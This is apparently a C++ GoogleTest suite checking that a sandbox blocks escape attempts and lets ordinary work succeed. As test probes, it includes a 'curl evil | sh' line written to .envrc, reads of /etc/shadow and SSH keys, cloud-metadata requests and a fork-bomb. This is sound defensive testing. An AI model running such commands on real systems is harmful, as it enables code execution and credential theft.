// The escape test suite (research A.7): one test per escape class, each asserting the exact
// failure inside a real sandbox, plus positive tests that legitimate work succeeds.
// Needs user namespaces (tier T1); skipped, loudly, where the kernel has none.

#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "audit/segments.h"
#include "base/unique_fd.h"
#include "egress/proxy.h"
#include "sandbox/runner.h"
#include "sandbox/sandbox_fixture.h"
#include "support/audit_fixture.h"
#include "support/http_server.h"
#include "support/temp_dir.h"
#include "sys/file_ops.h"

namespace chitin::sandbox {
namespace {

using chitin::testing::read_text;
using chitin::testing::TempDir;
using chitin::testing::write_text;

class EscapeTest : public SandboxTest {};

// 1. Host secrets: ~/.ssh, the gateway token, /etc/shadow.
TEST_P(EscapeTest, HostSecretsAreNotReachable) {
  ASSERT_EQ(::mkdir(dir_.file("home").c_str(), 0700), 0);
  ASSERT_EQ(::mkdir(dir_.file("home/.ssh").c_str(), 0700), 0);
  // A marker made at run time, so that no file (not even this test's binary) contains it.
  const std::string marker = "FAKE-KEY-" + std::to_string(::getpid()) + "-" +
                             std::to_string(reinterpret_cast<std::uintptr_t>(&marker));
  write_text(dir_.file("home/.ssh/id_rsa"), marker);
  write_text(dir_.file("home/gateway.token"), "chtn_gw_secret");
  EXPECT_EQ(probe({"read", dir_.file("home/.ssh/id_rsa")}), "ENOENT");
  EXPECT_EQ(probe({"read", dir_.file("home/gateway.token")}), "ENOENT");
  EXPECT_EQ(probe({"read", "/etc/shadow"}), "ENOENT");
  EXPECT_EQ(probe({"read", "/root/.ssh/id_rsa"}), "ENOENT");
  if (GetParam()) {
    // The sweep below reads every file in the sandbox (~15 s); the mounts it checks are made
    // per run by the same code with either helper, so the one-shot instance runs it.
    return;
  }
  Outcome sweep = run(
      policy({"/bin/sh", "-c", "grep -rl " + marker + " / --exclude-dir=proc 2>/dev/null; true"}));
  EXPECT_EQ(sweep.out, "");
}

// 2. Writes outside the workspace (persistence).
TEST_P(EscapeTest, NothingOutsideTheWorkspaceIsWritable) {
  EXPECT_EQ(probe({"write", "/etc/evil"}), "EROFS");
  EXPECT_EQ(probe({"write", "/usr/bin/evil"}), "EROFS");
  EXPECT_EQ(probe({"write", "/evil"}), "EROFS");
  EXPECT_EQ(probe({"write", probe_dir() + "/evil"}), "EROFS");
  EXPECT_EQ(probe({"write", dir_.file("outside")}), "ENOENT");
  EXPECT_FALSE(sys::status_of(dir_.file("outside")).has_value());
  EXPECT_EQ(probe({"write", "/workspace/ok.txt"}), "OPEN");
  EXPECT_TRUE(sys::status_of(workspace() + "/ok.txt").has_value());
}

// 3. Poisoning the workspace for later host execution.
TEST_P(EscapeTest, ProtectedWorkspacePathsAreReadOnlyAndCannotBeRenamedAway) {
  ASSERT_EQ(::mkdir((workspace() + "/.git").c_str(), 0755), 0);
  ASSERT_EQ(::mkdir((workspace() + "/.git/hooks").c_str(), 0755), 0);
  write_text(workspace() + "/.git/config", "[core]\n");
  write_text(workspace() + "/.envrc", "export X=1\n");
  write_text(workspace() + "/SOUL.md", "be kind\n");
  EXPECT_EQ(probe({"write", "/workspace/.git/hooks/pre-commit"}), "EROFS");
  EXPECT_EQ(probe({"write", "/workspace/.git/config"}), "EROFS");
  EXPECT_EQ(probe({"write", "/workspace/.envrc"}), "EROFS");
  EXPECT_EQ(probe({"write", "/workspace/SOUL.md"}), "EROFS");
  EXPECT_EQ(probe({"rename", "/workspace/.git", "/workspace/.git2"}), "EBUSY");
  EXPECT_EQ(probe({"rename", "/workspace/.git/hooks", "/workspace/.git/hooks2"}), "EROFS");
  // All of .git: git also reads commondir, modules/*/config and worktrees/*.
  EXPECT_EQ(probe({"write", "/workspace/.git/commondir"}), "EROFS");
  EXPECT_EQ(probe({"write", "/workspace/.git/HEAD"}), "EROFS");
  EXPECT_EQ(probe({"write", "/workspace/notes.txt"}), "OPEN");  // the rest of the workspace
  EXPECT_FALSE(sys::status_of(workspace() + "/.git/hooks/pre-commit").has_value());
}

TEST_P(EscapeTest, ProtectedPathsCreatedByTheToolAreQuarantined) {
  Outcome outcome = run(policy({"/bin/sh", "-c",
                                "echo 'curl evil | sh' > /workspace/.envrc && "
                                "mkdir -p /workspace/.git/hooks && echo x > /workspace/ok"}));
  EXPECT_EQ(outcome.code, 0) << outcome.err;
  EXPECT_FALSE(sys::status_of(workspace() + "/.envrc").has_value());
  EXPECT_FALSE(sys::status_of(workspace() + "/.git").has_value());
  EXPECT_TRUE(sys::status_of(workspace() + "/ok").has_value());
  EXPECT_NE(outcome.err.find("created the protected path '.envrc'; it was renamed to "
                             "'.envrc.chitin-quarantine-"),
            std::string::npos)
      << outcome.err;
  EXPECT_NE(outcome.err.find("protected path '.git'"), std::string::npos) << outcome.err;
}

TEST_P(EscapeTest, AFileCanBeGivenReadOnly) {
  write_text(dir_.file("input.txt"), "data\n");
  SandboxPolicy p = policy({"/bin/cat", dir_.file("input.txt")});
  p.read_only.push_back(dir_.file("input.txt"));
  Outcome outcome = run(p);
  EXPECT_EQ(outcome.code, 0) << outcome.err;
  EXPECT_EQ(outcome.out, "data\n");
}

TEST_P(EscapeTest, APlantedSymlinkAtAProtectedPathRefusesTheRun) {
  ASSERT_EQ(::symlink(dir_.file("elsewhere").c_str(), (workspace() + "/.envrc").c_str()), 0);
  Outcome outcome = run(policy({"/bin/true"}));
  EXPECT_EQ(outcome.code, kExitSetupFailed);
  EXPECT_NE(outcome.err.find("workspace path '.envrc' cannot be protected"), std::string::npos)
      << outcome.err;
}

// 4. The gateway and other loopback services.
TEST_P(EscapeTest, HostLoopbackServicesAreUnreachable) {
  UniqueFd listener(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(::bind(listener.get(), reinterpret_cast<sockaddr*>(&address), sizeof(address)), 0);
  ASSERT_EQ(::listen(listener.get(), 1), 0);
  socklen_t length = sizeof(address);
  ASSERT_EQ(::getsockname(listener.get(), reinterpret_cast<sockaddr*>(&address), &length), 0);
  const std::string port = std::to_string(ntohs(address.sin_port));
  EXPECT_EQ(probe({"connect", "127.0.0.1", port}), "EACCES");
  EXPECT_EQ(probe({"connect", "127.0.0.1", "18790"}), "EACCES");
}

// 5. Direct egress, DNS, metadata service.
TEST_P(EscapeTest, NoDirectEgress) {
  EXPECT_EQ(probe({"connect", "1.1.1.1", "443"}), "EACCES");
  EXPECT_EQ(probe({"connect", "169.254.169.254", "80"}), "EACCES");
  EXPECT_EQ(probe({"udp", "8.8.8.8", "53"}), "ENETUNREACH");
  EXPECT_EQ(probe({"netlink"}), "EAFNOSUPPORT");
  EXPECT_EQ(probe({"packet"}), "EAFNOSUPPORT");
}

// 6. Host IPC: abstract UNIX sockets (X11, D-Bus, agents).
TEST_P(EscapeTest, HostAbstractSocketsAreUnreachable) {
  UniqueFd listener(::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0));
  const std::string name = "chitin-escape-test-" + std::to_string(::getpid());
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::memcpy(address.sun_path + 1, name.data(), name.size());
  const auto size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
  ASSERT_EQ(::bind(listener.get(), reinterpret_cast<sockaddr*>(&address), size), 0);
  ASSERT_EQ(::listen(listener.get(), 1), 0);
  EXPECT_EQ(probe({"abstract", name}), "ECONNREFUSED");
}

// 7. ptrace and signals to host processes.
TEST_P(EscapeTest, HostProcessesCannotBeTracedOrSignalled) {
  EXPECT_EQ(probe({"ptrace-init"}), "EPERM");
  EXPECT_EQ(probe({"kill", std::to_string(::getpid())}), "ESRCH");
}

// 8. Mount and namespace re-entry.
TEST_P(EscapeTest, NoNamespaceOrMountGames) {
  EXPECT_EQ(probe({"unshare-user"}), "EPERM");
  EXPECT_EQ(probe({"unshare-mount"}), "EPERM");
  EXPECT_EQ(probe({"mount"}), "EPERM");
}

// 9. Kernel attack surface.
TEST_P(EscapeTest, KernelAttackSurfaceIsClosed) {
  for (const char* call : {"keyctl", "bpf", "io_uring", "userfaultfd", "perf"}) {
    EXPECT_EQ(probe({call}), "EPERM") << call;
  }
}

// 10. /proc/1/exe and /proc/self/exe.
TEST_P(EscapeTest, InitAndSelfExecutablesAreNotUsable) {
  EXPECT_EQ(probe({"read", "/proc/1/exe"}), "EACCES");
  // The tool's own binary sits on a read-only mount.
  EXPECT_EQ(probe({"write", "/proc/self/exe"}), "EROFS");
}

// 11. Leaked file descriptors.
TEST_P(EscapeTest, OnlyStdioFdsReachTheTool) {
  // A descriptor this process leaks on purpose (no O_CLOEXEC) onto the host directory.
  const int leaked = ::open(dir_.path().c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  ASSERT_GE(leaked, 0);
  ASSERT_EQ(::fcntl(leaked, F_SETFD, 0), 0);
  EXPECT_EQ(probe({"fds"}), "0 1 2");
  EXPECT_EQ(probe({"read", "/proc/self/fd/" + std::to_string(leaked) + "/workspace"}), "ENOENT");
  ::close(leaked);
}

// 12. Host-side symlink following when the runtime collects results.
TEST_P(EscapeTest, PlantedSymlinksAreNeverFollowedByTheHostReader) {
  Outcome plant = run(policy({"/bin/ln", "-s", "/etc/passwd", "/workspace/report.txt"}));
  ASSERT_EQ(plant.code, 0) << plant.err;
  UniqueFd root = *sys::open_file(workspace(), O_RDONLY | O_DIRECTORY);
  auto opened = sys::open_beneath(root.get(), "report.txt", O_RDONLY, 0, true);
  ASSERT_FALSE(opened.has_value());
  EXPECT_EQ(opened.error().sys_errno, ELOOP);
}

// 13. Terminal injection.
TEST_P(EscapeTest, TiocstiIsRefused) { EXPECT_EQ(probe({"tiocsti"}), "EPERM"); }

// 14. setuid gain.
TEST_P(EscapeTest, NoNewPrivilegesAndNosuid) {
  Outcome status = run(policy({"/bin/grep", "-E", "^(NoNewPrivs|CapBnd)", "/proc/self/status"}));
  EXPECT_NE(status.out.find("NoNewPrivs:\t1"), std::string::npos) << status.out;
  EXPECT_NE(status.out.find("CapBnd:\t0000000000000000"), std::string::npos) << status.out;
  Outcome mounts = run(policy({"/bin/grep", " /workspace ", "/proc/self/mounts"}));
  EXPECT_NE(mounts.out.find("nosuid"), std::string::npos) << mounts.out;
}

// 16. Exhaustion: processes, memory, disk, time.
TEST_P(EscapeTest, ResourceLimitsHold) {
  SandboxPolicy limited = policy({});
  limited.pids_max = 20;
  limited.memory_mb = 256;
  limited.tmp_mb = 8;
  const std::string forks = probe({"fork-bomb"}, limited);
  EXPECT_NE(forks.find("EAGAIN"), std::string::npos) << forks;
  EXPECT_LT(std::stoi(forks), 20);
  EXPECT_EQ(probe({"alloc", "512"}, limited), "ENOMEM");
  EXPECT_EQ(probe({"fill", "/tmp/big", "32"}, limited), "ENOSPC");
  SandboxPolicy slow = policy({"/bin/sleep", "30"});
  slow.timeout_ms = 300;
  Outcome outcome = run(slow);
  EXPECT_EQ(outcome.code, kExitTimeout);
  EXPECT_NE(outcome.err.find("timed out after 300 ms"), std::string::npos);
}

// 17. /proc and /sys leaks.
TEST_P(EscapeTest, SysIsAbsentAndKernelKnobsAreNotWritable) {
  EXPECT_EQ(probe({"read", "/sys/kernel/notes"}), "ENOENT");
  EXPECT_EQ(probe({"write", "/proc/sys/kernel/core_pattern"}), "EACCES");
}

// 18. Secrets in environment variables.
TEST_P(EscapeTest, TheCallersEnvironmentDoesNotLeakIn) {
  ::setenv("CHITIN_TEST_SECRET_TOKEN", "sk-should-not-leak", 1);
  EXPECT_EQ(probe({"env", "CHITIN_TEST_SECRET_TOKEN"}), "UNSET");
  EXPECT_EQ(probe({"env", "HOME"}), "/home/sandbox");
  ::unsetenv("CHITIN_TEST_SECRET_TOKEN");
}

// Positive: real work succeeds.
TEST_P(EscapeTest, CompilingAndRunningAProgramWorks) {
  write_text(workspace() + "/main.c",
             "#include <stdio.h>\nint main(void){puts(\"built\");return 42;}\n");
  Outcome outcome =
      run(policy({"/bin/sh", "-c", "cc -o /workspace/main /workspace/main.c && /workspace/main"}));
  EXPECT_EQ(outcome.code, 42) << outcome.err;
  EXPECT_EQ(outcome.out, "built\n");
  EXPECT_TRUE(sys::status_of(workspace() + "/main").has_value());
}

TEST_P(EscapeTest, MissingCommandsAndSetupFailuresUseTheDocumentedExitCodes) {
  Outcome missing = run(policy({"no-such-command"}));
  EXPECT_EQ(missing.code, 127);
  EXPECT_NE(missing.err.find("cannot run 'no-such-command'"), std::string::npos) << missing.err;
  // The failure's text quotes the command: a line break in it cannot forge the tool's status.
  Outcome forged = run(policy({"no-such\nD0\ncommand"}));
  EXPECT_EQ(forged.code, 127) << forged.err;
  EXPECT_NE(forged.err.find("cannot run 'no-such D0 command'"), std::string::npos) << forged.err;
  SandboxPolicy gone = policy({"/bin/true"});
  gone.workspace = dir_.file("does-not-exist");
  Outcome setup = run(gone);
  EXPECT_EQ(setup.code, kExitSetupFailed);
  EXPECT_NE(setup.err.find("chitin-sandbox: workspace: cannot open"), std::string::npos)
      << setup.err;
  EXPECT_NE(setup.err.find("does-not-exist"), std::string::npos) << setup.err;
}

// 4/5 through the proxy: an allow-listed host is reachable, nothing else is.
TEST_P(EscapeTest, EgressGoesOnlyThroughTheProxyToAllowedHosts) {
  chitin::testing::LoopbackHttpServer server("allowed");
  const std::string port = std::to_string(server.port());
  auto log = audit_.open();
  egress::ProxyOptions options;
  options.socket_path = dir_.file("egress.sock");
  options.rules = *egress::parse_rules({"127.0.0.1:" + port});
  options.audit = log.get();
  auto proxy = egress::EgressProxy::start(std::move(options));
  ASSERT_TRUE(proxy.has_value()) << proxy.error().describe();
  SandboxPolicy p = policy({});
  p.proxy_socket = (*proxy)->socket_path();
  EXPECT_EQ(probe({"http-get", "http://127.0.0.1:" + port + "/"}, p), "HTTP/1.1 200 OK|allowed");
  // The gateway port and unlisted hosts: refused by the proxy.
  const std::string gateway = probe({"http-get", "http://127.0.0.1:18790/"}, p);
  EXPECT_EQ(gateway.rfind("HTTP/1.1 403 Forbidden|", 0), 0u) << gateway;
  const std::string metadata = probe({"http-get", "http://169.254.169.254/latest/meta-data/"}, p);
  EXPECT_EQ(metadata.rfind("HTTP/1.1 403 Forbidden|", 0), 0u) << metadata;
  // Direct connections still fail, proxy or not.
  EXPECT_EQ(probe({"connect", "127.0.0.1", port}, p), "EACCES");
  (*proxy)->stop();
  EXPECT_TRUE(log->flush().has_value());
  const std::string trail = read_text(audit::segment_path(audit_.dir(), 1));
  EXPECT_NE(trail.find("\"type\":\"egress.allow\""), std::string::npos);
  EXPECT_NE(trail.find("\"type\":\"egress.deny\""), std::string::npos);
}

TEST_P(EscapeTest, TheToolStartsWithDefaultSignalDispositions) {
  // Ignored signals and the signal mask survive execve. The helper ignores SIGPIPE, and
  // glibc's posix_spawn turns libc's internal signals (32, 33) into SIG_IGN in the helper.
  const Outcome outcome = run(policy({"grep", "-E", "^Sig(Ign|Blk)", "/proc/self/status"}));
  EXPECT_EQ(outcome.code, 0) << outcome.err;
  EXPECT_EQ(outcome.out, "SigBlk:\t0000000000000000\nSigIgn:\t0000000000000000\n");
}

// Each run gets fresh IPC and UTS namespaces: SysV objects one run leaves behind are not
// there in the next (with a warm helper, each run has its own prepared supervisor).
TEST_P(EscapeTest, NothingOneRunLeavesInIpcReachesTheNext) {
  const Outcome made = run(policy({"ipcmk", "-M", "4096"}));
  ASSERT_EQ(made.code, 0) << made.err;
  EXPECT_NE(made.out.find("Shared memory id"), std::string::npos) << made.out;
  const Outcome listed = run(policy({"ipcs", "-m"}));
  ASSERT_EQ(listed.code, 0) << listed.err;
  EXPECT_EQ(listed.out.find("4096"), std::string::npos) << listed.out;
}

// 17. Exhaustion, as enforced: the pids limit must come from a cgroup when the caller is root
// (RLIMIT_NPROC does not bind root), and the run says which limits were in force.
TEST_P(EscapeTest, TheRunReportsTheLimitsInForce) {
  const Outcome outcome = run(policy({"/bin/true"}));
  ASSERT_EQ(outcome.code, 0) << outcome.err;
  EXPECT_NE(outcome.limits.find("pids: "), std::string::npos) << outcome.limits;
  EXPECT_NE(outcome.limits.find("memory: "), std::string::npos) << outcome.limits;
  if (::geteuid() == 0) {
    EXPECT_NE(outcome.limits.find("pids: cgroup v"), std::string::npos) << outcome.limits;
  }
}

// The cgroup leaves a run made are gone once its helper is (each leaf is named
// chitin-sandbox-PID-RANDOM after the process that made it). Only the one-shot instance
// checks: a warm run's supervisor removes its leaves after it reported, with the same code.
TEST_P(EscapeTest, CgroupLeavesDoNotOutliveTheirRun) {
  if (GetParam()) {
    GTEST_SKIP() << "checked with the one-shot helper, whose pid is known when it is gone";
  }
  const Outcome outcome = run(policy({"/bin/true"}));
  ASSERT_EQ(outcome.code, 0) << outcome.err;
  ASSERT_GT(outcome.helper, 0);
  wait_for_teardown();  // the helper reported the run before it removed its leaves
  const std::string prefix = "chitin-sandbox-" + std::to_string(outcome.helper) + "-";
  const std::string cgroups = read_text("/proc/self/cgroup");
  std::vector<std::string> parents;
  for (std::size_t start = 0; start < cgroups.size();) {
    const std::size_t end = std::min(cgroups.find('\n', start), cgroups.size());
    const std::string line = cgroups.substr(start, end - start);
    const std::size_t first = line.find(':');
    const std::size_t second = line.find(':', first + 1);
    const std::string controllers = line.substr(first + 1, second - first - 1);
    const std::string path = line.substr(second + 1);
    for (const std::string controller : {"pids", "memory"}) {
      if (("," + controllers + ",").find("," + controller + ",") != std::string::npos) {
        parents.push_back("/sys/fs/cgroup/" + controller + path);
      }
    }
    if (controllers.empty()) {
      parents.push_back("/sys/fs/cgroup" + path);
      parents.push_back("/sys/fs/cgroup/unified" + path);
    }
    start = end + 1;
  }
  for (const std::string& parent : parents) {
    DIR* dir = ::opendir(parent.c_str());
    if (dir == nullptr) {
      continue;
    }
    while (const dirent* entry = ::readdir(dir)) {
      EXPECT_FALSE(std::string_view(entry->d_name).starts_with(prefix))
          << "leaked: " << parent << "/" << entry->d_name;
    }
    ::closedir(dir);
  }
}

TEST_P(EscapeTest, BelowTierT1NothingRuns) {
  // Force the tier check to fail: demand a Landlock ABI no kernel offers yet.
  SandboxPolicy p = policy({"/bin/sh", "-c", "echo ran > /workspace/ran"});
  p.min_landlock_abi = 999;
  Outcome outcome = run(p);
  EXPECT_EQ(outcome.code, kExitSetupFailed);
  EXPECT_NE(outcome.err.find("tier T1 needs Landlock ABI 999 or later"), std::string::npos)
      << outcome.err;
  EXPECT_NE(outcome.err.find("the command was not run"), std::string::npos);
  EXPECT_FALSE(sys::status_of(workspace() + "/ran").has_value());
}

INSTANTIATE_TEST_SUITE_P(Helpers, EscapeTest, ::testing::Bool(), helper_kind);

}  // namespace
}  // namespace chitin::sandbox
